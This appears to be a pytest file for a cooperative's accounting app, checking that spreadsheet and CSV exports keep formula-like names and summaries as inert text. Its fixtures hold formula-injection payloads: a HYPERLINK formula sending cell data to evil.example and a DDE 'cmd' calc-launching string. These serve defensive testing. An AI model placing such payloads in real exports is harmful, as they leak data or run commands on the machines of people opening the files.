"""Formula-like text (= + - @ tab CR) in account names, 摘要 and member names leaves every xlsx and CSV export as
the text it is: read back, each cell holds the same string, typed as text, never a formula."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from coop.core.export_safety import csv_cell, risky
from coop.core.extensions import db
from coop.services import accounts, members
from tests.test_shares import IDS

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
EVIL_SUMMARY = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_MEMBER = "=1+1"


def cells(data: bytes) -> dict[str, str]:
    """Every text cell of every sheet: value → data type."""
    wb = load_workbook(io.BytesIO(data))
    return {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


@pytest.fixture
def evil_books(books):
    accounts.add_detail_account(books.org, "501", "50101", EVIL_NAME)
    books.lock_opening({"101": "1000.00", "301": "-1000.00"})
    books.post("2025-01-10", ("101", "88.00", ""), ("50101", "", "88.00"), summary=EVIL_SUMMARY)
    books.post("2025-01-11", ("101", "1.00", ""), ("50101", "", "1.00"), summary="-2+3")
    db.session.commit()
    return books


def test_helper_leaves_numbers_alone():
    assert [risky(v) for v in ("=1", "+1+1", "-A1", "@x", "\tx", "\rx", "-1234.50", "+5", "1,000.00", 3, "正常")] == [
        True, True, True, True, True, True, False, False, False, False, False]
    assert csv_cell("=1") == "'=1" and csv_cell("-1234.50") == "-1234.50"


def test_trial_balance_xlsx_keeps_the_account_name_as_text(evil_books, app):
    from coop.reports import builders, xlsx
    from coop.reports.params import ReportQuery

    with app.test_request_context():
        t = builders.trial_balance(evil_books.org, ReportQuery(2025, 1, 1))
        got = cells(xlsx.render_xlsx(t))
    assert got[EVIL_NAME] == "s"


def test_voucher_export_keeps_summaries_as_text(evil_books):
    from coop.services.voucher_import import export_vouchers_xlsx

    got = cells(export_vouchers_xlsx(evil_books.org, 2025))
    assert got[EVIL_SUMMARY] == "s" and got["-2+3"] == "s"
    assert all(t != "f" for t in got.values())


def test_roster_xlsx_keeps_member_names_as_text(books):
    from coop.documents.shares import roster_xlsx

    h = members.create_household(books.org)
    members.add_member(h, name=EVIL_MEMBER, id_number=IDS[0], relation="户主")
    db.session.commit()
    got = cells(roster_xlsx(members.export_roster(books.org)))
    assert got[EVIL_MEMBER] == "s"


def test_trial_balance_csv_prefixes_formula_text(evil_books, app):
    r = app.test_cli_runner().invoke(args=["coop", "report", "trial-balance", "--org", str(evil_books.org.id),
                                           "--period", "2025-01", "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.output)))
    names = [cell for row in rows for cell in row]
    assert "'" + EVIL_NAME in names and EVIL_NAME not in names
    row = next(r for r in rows if r[0] == "50101")
    assert "89.00" in row  # 88.00 + 1.00 credited
    assert [c for c in names if c.startswith("'")] == ["'" + EVIL_NAME]  # amounts are never prefixed
